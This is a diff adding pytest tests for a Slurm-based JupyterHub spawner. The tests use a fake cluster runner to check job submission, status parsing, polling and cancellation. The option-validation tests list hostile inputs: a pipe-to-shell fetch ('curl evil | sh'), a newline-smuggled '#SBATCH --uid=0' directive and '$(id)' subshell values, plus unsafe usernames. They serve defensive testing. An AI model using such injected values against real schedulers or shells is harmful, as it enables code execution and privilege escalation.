@@ -1,0 +1,272 @@
+"""SlurmSpawner's decisions, with an injected FakeRunner answering like Slurm 22.05 did here.
+
+Replies are real squeue/sbatch outputs seen on the real Slurm (see ../shared/REAL-COMPONENTS.md);
+parser tests over captured fixture files live in test_parsers_slurm.py.
+"""
+
+import asyncio
+import socket
+
+import pytest
+from helpers import make_spawner
+
+from batchspawner import JobState, SlurmSpawner, SpawnFailed
+from batchspawner.options import OptionError
+from batchspawner.slurm import first_host
+from fakes import FakeRunner, Reply
+
+ERR_INVALID = "slurm_load_jobs error: Invalid job id specified\n"
+ERR_DOWN = "slurm_load_jobs error: Unable to contact slurm controller (connect failure)\n"
+
+
+class Cluster:
+    """Answers sbatch/squeue/scancel from a scripted list of squeue states."""
+
+    def __init__(self, states, job_id="123", host="localhost"):
+        self.states = list(states)
+        self.job_id = job_id
+        self.host = host
+        self.cancelled = set()
+
+    def __call__(self, argv, stdin):
+        cmd = argv[0]
+        if cmd == "sbatch":
+            return Reply(stdout=f"{self.job_id}\n")
+        if cmd == "scancel":
+            self.cancelled.add(argv[-1])
+            return Reply()
+        if cmd == "tail":
+            return Reply(stdout="line1\nImportError: no module named jupyterhub\n")
+        if cmd == "squeue":
+            if argv[5] in self.cancelled:
+                return Reply(stdout="CANCELLED localhost None\n")
+            state = self.states.pop(0) if len(self.states) > 1 else self.states[0]
+            if isinstance(state, Reply):
+                return state
+            return Reply(stdout=state + "\n")
+        raise AssertionError(f"unexpected command {argv}")
+
+
+def spawner_with(cluster, **traits):
+    runner = FakeRunner(cluster)
+    traits.setdefault("startup_poll_interval", 0.01)
+    return make_spawner(SlurmSpawner, runner, **traits), runner
+
+
+@pytest.fixture
+def listener():
+    """A real listening socket standing in for the single-user server."""
+    sock = socket.socket()
+    sock.bind(("127.0.0.1", 0))
+    sock.listen()
+    yield sock.getsockname()[1]
+    sock.close()
+
+
+async def _start_and_report(spawner, port):
+    task = asyncio.ensure_future(spawner.start())
+    for _ in range(500):
+        if spawner._port_future is not None and spawner.job_id and spawner._last_status and spawner._last_status.state is JobState.RUNNING:
+            break
+        await asyncio.sleep(0.01)
+    spawner.report_port(port)
+    return await asyncio.wait_for(task, 10)
+
+
+async def test_start_submits_script_on_stdin_and_returns_host_port(listener):
+    cluster = Cluster(["PENDING n/a Resources", "PENDING n/a Priority", "RUNNING 127.0.0.1 None"])
+    spawner, runner = spawner_with(cluster, req_partition="debug", req_runtime="01:00:00", req_memory="4G")
+    ip, port = await _start_and_report(spawner, listener)
+    assert (ip, port) == ("127.0.0.1", listener)
+    submit = runner.calls[0]
+    assert submit.argv == ["sbatch", "--parsable"]
+    script = submit.stdin
+    assert "#SBATCH --partition=debug\n" in script
+    assert "#SBATCH --time=01:00:00\n" in script
+    assert "#SBATCH --mem=4G\n" in script
+    assert "#SBATCH --qos" not in script and "#SBATCH --account" not in script
+    # the token travels in the environment, never in the script
+    assert "secret-token-value" not in script
+    assert submit.env["JUPYTERHUB_API_TOKEN"] == "secret-token-value"
+    assert "PATH" in submit.env and "PATH" in script.split("--export=")[1].split("\n")[0]
+    assert spawner.get_state()["job_id"] == "123"
+    queries = [c.argv for c in runner.calls if c.argv[0] == "squeue"]
+    assert queries[0] == ["squeue", "-h", "-t", "all", "-j", "123", "-o", "%T %B %r"]
+    messages = [e["message"] for e in spawner._events]
+    assert any("Resources" in m for m in messages) and any("Priority" in m for m in messages)
+
+
+async def test_job_that_ends_before_reporting_fails_at_once_with_log_tail():
+    cluster = Cluster(["PENDING n/a None", "RUNNING localhost None", "FAILED localhost NonZeroExitCode"])
+    spawner, runner = spawner_with(cluster)
+    with pytest.raises(SpawnFailed) as info:
+        await asyncio.wait_for(spawner.start(), 5)
+    message = str(info.value)
+    assert "ended (FAILED" in message
+    assert "no module named jupyterhub" in message
+    tail = [c.argv for c in runner.calls if c.argv[0] == "tail"][0]
+    assert tail[-1] == "/home/alice/jupyterhub_slurmspawner_123.log"
+
+
+async def test_job_gone_from_squeue_while_pending_fails():
+    cluster = Cluster(["PENDING n/a None", Reply(stdout="")])
+    spawner, _ = spawner_with(cluster)
+    with pytest.raises(SpawnFailed):
+        await asyncio.wait_for(spawner.start(), 5)
+
+
+@pytest.mark.parametrize(
+    "reply, state, host",
+    [
+        (Reply(stdout="RUNNING node[01-04,07] None\n"), JobState.RUNNING, "node01"),
+        (Reply(stdout="COMPLETING localhost None\n"), JobState.RUNNING, "localhost"),
+        (Reply(stdout="CONFIGURING n/a None\n"), JobState.PENDING, ""),
+        (Reply(stdout="PENDING n/a Resources\n"), JobState.PENDING, ""),
+        (Reply(stdout="COMPLETED localhost None\n"), JobState.FINISHED, ""),
+        (Reply(stdout="CANCELLED localhost None\n"), JobState.FINISHED, ""),
+        (Reply(stdout=""), JobState.FINISHED, ""),
+        (Reply(stderr=ERR_INVALID, returncode=1), JobState.FINISHED, ""),
+        (Reply(stderr=ERR_DOWN, returncode=1), JobState.UNKNOWN, ""),
+        (Reply(stderr="squeue: error: Munge decode failed: Expired credential\n", returncode=1), JobState.UNKNOWN, ""),
+        (Reply(stdout="<html>proxy error</html>\n"), JobState.UNKNOWN, ""),
+        (Reply(timeout=True), JobState.UNKNOWN, ""),
+        (Reply(stdout="CLUSTER: cl2\nRUNNING gpu7 None\n"), JobState.RUNNING, "gpu7"),
+    ],
+    ids=[
+        "running-nodelist", "completing", "configuring", "pending", "completed", "cancelled",
+        "empty-after-end", "invalid-job-id", "controller-down", "munge-error", "garbage", "timeout",
+        "multicluster-header",
+    ],
+)
+async def test_query_states(reply, state, host):
+    spawner, _ = spawner_with(lambda argv, stdin: reply)
+    spawner.job_id = "77"
+    status = await spawner.query_job_status()
+    assert status.state is state
+    if host:
+        assert status.host == host
+
+
+async def test_poll_unknown_is_alive_finished_is_not():
+    replies = [Reply(stderr=ERR_DOWN, returncode=1), Reply(stdout="RUNNING localhost None\n"), Reply(stdout="")]
+    spawner, _ = spawner_with(lambda argv, stdin: replies.pop(0))
+    spawner.job_id = "9"
+    assert await spawner.poll() is None
+    assert await spawner.poll() is None
+    assert await spawner.poll() == 1
+
+
+async def test_poll_without_job_is_stopped():
+    spawner, runner = spawner_with(Cluster(["RUNNING localhost None"]))
+    assert await spawner.poll() == 0
+    assert runner.calls == []
+
+
+async def test_stop_cancels_and_waits_until_gone():
+    cluster = Cluster(["RUNNING localhost None"])
+    spawner, runner = spawner_with(cluster)
+    spawner.job_id = "55"
+    await spawner.stop()
+    assert [c.argv for c in runner.calls][:2] == [["scancel", "55"], ["squeue", "-h", "-t", "all", "-j", "55", "-o", "%T %B %r"]]
+
+
+async def test_stop_is_bounded_when_job_never_goes():
+    spawner, runner = spawner_with(lambda argv, stdin: Reply(stdout="RUNNING localhost None\n"), cancel_wait_timeout=0.2)
+    spawner.job_id = "56"
+    await asyncio.wait_for(spawner.stop(), 3)
+    assert runner.calls[0].argv == ["scancel", "56"]
+
+
+@pytest.mark.parametrize(
+    "options, field",
+    [
+        ({"cmd": "/bin/sh -c evil"}, "cmd"),
+        ({"prologue": "curl evil | sh"}, "prologue"),
+        ({"partition": "debug\n#SBATCH --uid=0"}, "partition"),
+        ({"partition": "a b"}, "partition"),
+        ({"partition": "$(id)"}, "partition"),
+        ({"partition": "-x"}, "partition"),
+        ({"memory": ["4G"]}, "memory"),
+        ({"nonsense": "1"}, "nonsense"),
+        ({"options": "--uid=0"}, "options"),
+    ],
+    ids=["cmd", "prologue", "newline", "space", "subshell", "leading-dash", "list", "unknown-key", "raw-options"],
+)
+async def test_bad_user_options_are_refused_before_submission(options, field):
+    spawner, runner = spawner_with(Cluster(["RUNNING localhost None"]))
+    spawner.user_options = options
+    with pytest.raises(OptionError) as info:
+        await spawner.start()
+    assert info.value.status_code == 400
+    assert info.value.field == field and repr(field) in str(info.value)
+    assert runner.calls == []
+
+
+async def test_good_user_option_reaches_script_as_one_value(listener):
+    cluster = Cluster(["RUNNING 127.0.0.1 None"])
+    spawner, runner = spawner_with(cluster)
+    spawner.user_options = {"partition": "gpu", "runtime": "1-00:00:00"}
+    await _start_and_report(spawner, listener)
+    script = runner.calls[0].stdin
+    assert "#SBATCH --partition=gpu\n" in script and "#SBATCH --time=1-00:00:00\n" in script
+
+
+async def test_leftover_job_from_interrupted_spawn_is_cancelled_first(listener):
+    cluster = Cluster(["RUNNING 127.0.0.1 None"], job_id="200")
+    spawner, runner = spawner_with(cluster)
+    spawner.load_state({"job_id": "199"})
+    await _start_and_report(spawner, listener)
+    argvs = [c.argv for c in runner.calls]
+    assert argvs[0][:4] == ["squeue", "-h", "-t", "all"] and argvs[0][5] == "199"
+    assert argvs[1] == ["scancel", "199"]
+    assert spawner.job_id == "200"
+
+
+def test_exec_prefix_formats_username_as_one_word():
+    spawner = make_spawner(SlurmSpawner)
+    runner = spawner._make_runner(spawner.exec_prefix)
+    assert runner.build_argv(["sbatch", "--parsable"]) == ["sudo", "-E", "-u", "alice", "sbatch", "--parsable"]
+    assert runner.remote_shell is False
+    ssh = spawner._make_runner("ssh -o BatchMode=yes {username}@login1")
+    assert ssh.remote_shell is True
+
+
+@pytest.mark.parametrize("name", ["-rf", "a b", "x;y", "$(id)"], ids=["dash", "space", "semicolon", "subshell"])
+def test_unsafe_usernames_never_reach_the_prefix(name):
+    spawner = make_spawner(SlurmSpawner, name=name)
+    with pytest.raises(SpawnFailed):
+        spawner._make_runner(spawner.exec_prefix)
+
+
+def test_state_round_trip():
+    spawner = make_spawner(SlurmSpawner)
+    spawner.load_state({"job_id": "31", "job_status": "RUNNING localhost"})
+    assert spawner.get_state()["job_id"] == "31"
+    spawner.clear_state()
+    assert spawner.job_id == "" and "job_id" not in spawner.get_state()
+
+
+def test_cmd_is_quoted_for_the_script():
+    spawner = make_spawner(SlurmSpawner, batchspawner_singleuser_cmd="/opt/v/bin/batchspawner-singleuser")
+    spawner.cmd = ["jupyterhub-singleuser"]
+    spawner.args = ["--notebook-dir=/tmp/my dir"]
+    assert spawner.cmd_formatted_for_batch().endswith("jupyterhub-singleuser '--notebook-dir=/tmp/my dir'")
+
+
+def test_format_style_1_3_template_still_works():
+    spawner = make_spawner(
+        SlurmSpawner, batch_script="#!/bin/sh\n#SBATCH --partition={partition}\n#SBATCH --time={runtime}\n{cmd}\n"
+    )
+    spawner.req_partition, spawner.req_runtime = "debug", "1:00:00"
+    script = spawner.render_script()
+    assert script.startswith("#!/bin/sh\n#SBATCH --partition=debug\n#SBATCH --time=1:00:00\n")
+
+
+@pytest.mark.parametrize(
+    "nodelist, host",
+    [("node01", "node01"), ("node[01-04,07]", "node01"), ("gpu[3,5]", "gpu3"), ("a1,b2", "a1"),
+     ("rack[1-2]-n[01-04]", "rack1-n[01-04]"), ("n/a", ""), ("cn[007-010].cluster", "cn007.cluster")],
+    ids=["single", "range", "list", "comma", "two-brackets-first-only", "none", "suffix"],
+)
+def test_first_host(nodelist, host):
+    assert first_host(nodelist) == host
